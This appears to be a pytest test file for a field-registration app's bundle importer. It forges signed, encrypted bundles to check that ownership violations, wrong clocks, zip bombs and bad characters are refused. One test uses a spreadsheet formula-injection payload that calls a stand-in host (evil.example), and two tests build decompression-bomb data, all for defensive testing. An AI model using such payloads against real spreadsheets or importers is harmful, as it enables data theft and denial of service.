"""The office trust boundary, attack by attack.

Two enrolled laptops (A and C) and an office. Laptop C (or a stranger) sends bundles crafted
at the format level, as docs/bundle-format.md describes them: JSON Lines members, a manifest
with their sizes and hashes, an Ed25519 signature over the manifest, a ZIP, age encryption
to the office. Each attack is refused with a message naming what is wrong, the office
database is unchanged (a hash of every table), and a genuine bundle from C imported
afterwards still goes in.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import io
import json
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pyrage
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from fieldapp.domain.clock import format_timestamp
from fieldapp.domain.models import AttendeeInput
from fieldapp.services.app import AppServices, open_services

KINDS = ("attendees", "audit", "print_events", "sessions")


# -- the format, by hand ------------------------------------------------------------------


def craft_bundle(
    path: Path,
    *,
    recipient: str,
    key: Ed25519PrivateKey,
    device_id: str,
    sequence: int,
    records: dict[str, list[dict[str, Any]]],
    raw_members: dict[str, bytes] | None = None,
) -> Path:
    """A bundle file: records/<kind>.jsonl + manifest.json + manifest.sig, zipped, age."""
    members: dict[str, bytes] = {}
    for kind in sorted(records):
        lines = [json.dumps(r, sort_keys=True, separators=(",", ":")) for r in records[kind]]
        members[f"records/{kind}.jsonl"] = "".join(line + "\n" for line in lines).encode()
    members.update(raw_members or {})
    public = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    manifest = {
        "format": "fieldapp-bundle",
        "format_version": 1,
        "app_version": "0.1.0",
        "created_at": format_timestamp(dt.datetime.now(dt.UTC)),
        "device_id": device_id,
        "device_public_key": base64.b64encode(public).decode(),
        "sequence": sequence,
        "sessions": [],
        "forms": [],
        "counts": {
            name.removeprefix("records/").removesuffix(".jsonl"): data.count(b"\n")
            for name, data in members.items()
        },
        "members": {
            name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
            for name, data in members.items()
        },
    }
    manifest_bytes = json.dumps(manifest, sort_keys=True, separators=(",", ":")).encode()
    plain = io.BytesIO()
    with zipfile.ZipFile(plain, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in [
            *members.items(),
            ("manifest.json", manifest_bytes),
            ("manifest.sig", key.sign(manifest_bytes)),
        ]:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    target = pyrage.x25519.Recipient.from_str(recipient)
    path.write_bytes(pyrage.encrypt(plain.getvalue(), [target]))
    return path


# -- two laptops and an office ---------------------------------------------------------------


class World:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.office = open_services(data_dir=root / "office", agent="clerk")
        self.office.office.init_identity()
        profile = root / "profile.json"
        self.office.office.write_profile(path=profile, office_name="غرفة كلميم")
        self.a = open_services(data_dir=root / "laptop-a", agent="agent-a")
        self.a.enrolment.enrol(path=profile)
        self.c = open_services(data_dir=root / "laptop-c", agent="agent-c")
        self.c.enrolment.enrol(path=profile)
        self.a_session = self.a.sessions.create_session(place="كلميم", date=dt.date(2025, 8, 1)).id
        self.a_person = self.register(self.a, self.a_session, "فاطمة بنعلي", "JA123456")
        self.c_session = self.c.sessions.create_session(place="طانطان", date=dt.date(2025, 8, 2)).id
        self.register(self.c, self.c_session, "خديجة", "JB234567")
        for laptop in (self.a, self.c):
            self.import_(self.export(laptop), trust=True)

    @staticmethod
    def register(laptop: AppServices, session: str, name: str, cin: str) -> str:
        data = AttendeeInput(name_ar=name, cin=cin, phone="+212612345678", consent=True)
        return laptop.attendees.register(session_id=session, data=data).id

    def export(self, laptop: AppServices) -> Path:
        folder = self.root / "stick"
        folder.mkdir(exist_ok=True)
        return laptop.bundle_export.export_bundle(target=folder).path

    def import_(self, *paths: Path, trust: bool = False) -> Any:
        return self.office.bundle_import.import_bundles(paths=list(paths), trust_new_devices=trust)

    def office_row(self, kind: str, record_id: str) -> dict[str, Any]:
        row = self.office.store.db.execute(f"SELECT * FROM {kind} WHERE id = ?", [record_id])
        names = [d[0] for d in row.description]
        return dict(zip(names, row.fetchone(), strict=True))

    def c_forge(self, name: str, records: dict[str, list[dict[str, Any]]]) -> Path:
        device = self.c.store.device
        return craft_bundle(
            self.root / f"{name}.fieldbundle",
            recipient=self.office.office.info().recipient,
            key=device.private_key,
            device_id=device.device_id,
            sequence=1000,
            records={kind: records.get(kind, []) for kind in KINDS},
        )

    def c_own_attendee(self, **changes: Any) -> dict[str, Any]:
        rows = self.c.bundle_export._outbox.select(pending_only=False)["attendees"]
        return {**rows[0], **changes}

    def tables_hash(self) -> dict[str, str]:
        db = self.office.store.db
        hashes = {}
        for table in db.table_names():
            rows = db.execute(f"SELECT * FROM [{table}] ORDER BY 1").fetchall()
            hashes[table] = hashlib.sha256(repr(rows).encode()).hexdigest()
        return hashes

    def close(self) -> None:
        for services in (self.office, self.a, self.c):
            services.close()


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    made = World(tmp_path)
    yield made
    made.close()


def refused_alone(
    world: World,
    bundle: Path,
    *expected: str,
    fr: tuple[str, ...] = (),
    ar: tuple[str, ...] = (),
) -> str:
    """Import `bundle`: refused with a message holding every `expected` text (and every `fr`
    and `ar` text in French and Arabic), the office unchanged; then a genuine bundle from C
    still goes in."""
    before = world.tables_hash()
    report = world.import_(bundle)
    (file,) = report.files
    assert file.status == "rejected", file.to_dict()
    message = file.message("en")
    for text in expected:
        assert text in message, message
    assert bundle.name in message
    for lang, texts in (("ar", ar), ("fr", fr)):
        assert bundle.name in file.message(lang) and file.message(lang) != message
        for text in texts:
            assert text in file.message(lang), file.message(lang)
    for lang in ("ar", "fr", "en"):
        file.message(lang).encode("utf-8")  # printable anywhere: no lone surrogate
    assert world.tables_hash() == before
    world.register(world.c, world.c_session, "زينب", "JC345678")
    genuine = world.import_(world.export(world.c))
    assert [f.status for f in genuine.files] == ["imported"], genuine.to_dict()
    assert genuine.files[0].new >= 1
    return message


# -- ownership ---------------------------------------------------------------------------------


def test_overwriting_another_laptops_attendee_is_refused(world: World) -> None:
    stolen = world.office_row("attendees", world.a_person)
    forged = {
        **stolen,
        "name_ar": "اسم مزور",
        "cin": "JZ999999",
        "device_id": world.c.store.device.device_id,
        "updated_at": format_timestamp(dt.datetime.now(dt.UTC)),
    }
    bundle = world.c_forge("overwrite", {"attendees": [forged]})
    refused_alone(
        world,
        bundle,
        world.a_person,
        "belongs to device",
        fr=(f"la fiche {world.a_person} (participants) appartient à l'appareil",),
        ar=(f"السجل {world.a_person} من المستفيدون يخص الحاسوب",),
    )
    assert world.office_row("attendees", world.a_person)["name_ar"] == "فاطمة بنعلي"


def test_deleting_another_laptops_attendee_or_session_is_refused(world: World) -> None:
    now = format_timestamp(dt.datetime.now(dt.UTC))
    me = world.c.store.device.device_id
    person = {**world.office_row("attendees", world.a_person), "deleted": 1}
    session = {**world.office_row("sessions", world.a_session), "place": "x", "deleted": 1}
    for row in (person, session):
        row.update(device_id=me, updated_at=now)
    bundle = world.c_forge("delete", {"attendees": [person], "sessions": [session]})
    message = refused_alone(world, bundle, world.a_person, world.a_session)
    assert "tries to change records that belong to another laptop" in message
    assert world.office_row("attendees", world.a_person)["deleted"] == 0


def test_adding_a_person_to_another_laptops_session_is_refused(world: World) -> None:
    intruder = world.c_own_attendee(
        id="0190f0a0-0000-7000-8000-0000000000aa",
        session_id=world.a_session,
        cin="JD456789",
        updated_at=format_timestamp(dt.datetime.now(dt.UTC)),
    )
    bundle = world.c_forge("cross-session", {"attendees": [intruder]})
    refused_alone(world, bundle, intruder["id"], f"sessions record {world.a_session}")


def test_an_audit_entry_about_another_laptops_record_is_refused(world: World) -> None:
    entry = {
        "id": "0190f0a0-0000-7000-8000-0000000000ab",
        "record_kind": "attendee",
        "record_id": world.a_person,
        "action": "update",
        "at": format_timestamp(dt.datetime.now(dt.UTC)),
        "device_id": world.c.store.device.device_id,
        "agent": "agent-c",
        "changes": '{"name_ar": ["فاطمة بنعلي", "اسم مزور"]}',
    }
    bundle = world.c_forge("audit", {"audit": [entry]})
    refused_alone(world, bundle, entry["id"], f"attendees record {world.a_person}")


def test_checking_in_a_known_person_at_ones_own_session_still_works(world: World) -> None:
    # The legitimate cross-device path: the same person (same CIN) checked in by C at its
    # own session is C's own record, next to A's.
    world.register(world.c, world.c_session, "فاطمة بنعلي", "JA123456")
    report = world.import_(world.export(world.c))
    assert [f.status for f in report.files] == ["imported"], report.to_dict()
    rows = world.office.store.db.execute(
        "SELECT device_id FROM attendees WHERE cin = 'JA123456' ORDER BY device_id"
    ).fetchall()
    assert sorted(r[0] for r in rows) == sorted(
        [world.a.store.device.device_id, world.c.store.device.device_id]
    )


# -- time bounds -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "stamp",
    [
        "far-future",
        "9999-12-31T23:59:59.999998Z",
        "9999-12-31T23:59:59.999999Z",
        "a-year-ahead",
        "2019-12-31T23:59:59.999999Z",
    ],
)
def test_a_wrong_clock_refuses_the_whole_bundle(world: World, stamp: str) -> None:
    now = dt.datetime.now(dt.UTC)
    stamp = {
        "far-future": format_timestamp(now + dt.timedelta(days=30)),
        "a-year-ahead": format_timestamp(now + dt.timedelta(days=365)),
    }.get(stamp, stamp)
    row = world.c_own_attendee(updated_at=stamp, name_ar="تعديل")
    bundle = world.c_forge("clock", {"attendees": [row]})
    message = refused_alone(
        world,
        bundle,
        world.c.store.device.device_id,
        "clock",
        stamp,
        fr=(f"participants ligne 1 : updated_at {stamp}", "Réglez la date et l'heure"),
        ar=(f"المستفيدون، السطر 1: updated_at {stamp}", "اضبط تاريخ وساعة"),
    )
    assert "export the bundle again" in message
    assert world.office.store.clock.last < format_timestamp(now + dt.timedelta(days=2))
    # Edits after the refusal still work (no OverflowError, across a restart too).
    world.office.close()
    world.office = open_services(data_dir=world.root / "office", agent="clerk")
    assert world.office.store.clock.now() < format_timestamp(now + dt.timedelta(days=2))


# -- a stranger's bomb ----------------------------------------------------------------------


def test_a_strangers_bomb_is_refused_after_the_manifest_only(world: World) -> None:
    stranger = Ed25519PrivateKey.generate()
    bomb = b"{}\n" * (20 << 20)  # 60 MiB of empty records: ~60 KB once deflated
    bundle = craft_bundle(
        world.root / "bomb.fieldbundle",
        recipient=world.office.office.info().recipient,
        key=stranger,
        device_id="stranger-laptop",
        sequence=1,
        records={},
        raw_members={"records/attendees.jsonl": bomb},
    )
    assert bundle.stat().st_size < 200_000
    started = time.process_time()
    message = refused_alone(world, bundle, "stranger-laptop", "not trusted")
    assert time.process_time() - started < 60  # generous: a hang, not a benchmark
    assert "--trust-device" in message


def test_a_trusted_laptops_bomb_stops_at_the_first_problems(world: World) -> None:
    device = world.c.store.device
    bundle = craft_bundle(
        world.root / "trusted-bomb.fieldbundle",
        recipient=world.office.office.info().recipient,
        key=device.private_key,
        device_id=device.device_id,
        sequence=1000,
        records={},
        raw_members={"records/attendees.jsonl": b"{}\n" * (5 << 20)},
    )
    refused_alone(world, bundle, "attendees line 1: missing field(s)")


# -- text -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("فاطمة\ud800", ("damaged character", "caractère endommagé", "حرف تالف")),
        ("Fat\x00i\x01ma\x1b", ("control character", "caractère de contrôle", "حرف تحكم")),
    ],
)
def test_bad_characters_refuse_the_bundle_naming_the_field(
    world: World, name: str, shown: tuple[str, str, str]
) -> None:
    row = world.c_own_attendee(name_ar=name, updated_at=format_timestamp(dt.datetime.now(dt.UTC)))
    bundle = world.c_forge("text", {"attendees": [row]})
    en, fr, ar = shown
    refused_alone(
        world,
        bundle,
        "attendees line 1: field 'name_ar'",
        en,
        fr=("participants ligne 1 : champ «Nom (arabe)» (name_ar) contient un", fr),
        ar=("المستفيدون، السطر 1: الخانة «الاسم بالعربية» (name_ar)", ar),
    )


def test_bad_bundles_never_stop_the_good_ones_on_the_same_command_line(world: World) -> None:
    row = world.c_own_attendee(
        name_ar="x\ud800", updated_at=format_timestamp(dt.datetime.now(dt.UTC))
    )
    bad = world.c_forge("surrogate", {"attendees": [row]})
    junk = world.root / "junk.fieldbundle"
    junk.write_bytes(b"age-encryption.org/v1\n-> X25519 garbage\n")
    world.register(world.a, world.a_session, "زينب", "JC345678")
    good = world.export(world.a)
    report = world.import_(bad, junk, good)
    assert [f.status for f in report.files] == ["rejected", "rejected", "imported"]
    assert "junk.fieldbundle" in report.files[1].message("en")
    assert "damaged" in report.files[1].message("en")


def test_formula_text_is_kept_as_text_in_the_office_exports(world: World) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&C2,"Click")'
    data = AttendeeInput(name_lat=formula, cin="JE567890", phone="+212612345678", consent=True)
    world.c.attendees.register(session_id=world.c_session, data=data)
    report = world.import_(world.export(world.c))
    assert [f.status for f in report.files] == ["imported"]
    xlsx, _ = world.office.office.export_people(path=world.root / "registry.xlsx")
    sheet = openpyxl.load_workbook(xlsx).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in values)
    assert formula in [cell.value for cell in values]
    csv_path, _ = world.office.office.export_people(path=world.root / "registry.csv")
    assert "'" + formula.replace('"', '""') in csv_path.read_text(encoding="utf-8-sig")


def test_the_cli_gives_each_file_its_own_result_in_the_clerks_language(world: World, cli) -> None:
    row = world.c_own_attendee(
        name_ar="x\x1b", updated_at=format_timestamp(dt.datetime.now(dt.UTC))
    )
    bad = world.c_forge("control", {"attendees": [row]})
    world.register(world.a, world.a_session, "زينب", "JC345678")
    good = world.export(world.a)
    office = str(world.office.data_dir)
    world.office.close()
    result = cli("--data-dir", office, "--lang", "fr", "bundle", "import", str(bad), str(good))
    assert result.code == 1
    assert "control.fieldbundle refusé" in result.err
    assert "champ «Nom (arabe)» (name_ar) contient un caractère de contrôle" in result.err
    assert "Traceback" not in result.err
    assert f"importé {good}" in result.out
    world.office = open_services(data_dir=Path(office), agent="clerk")
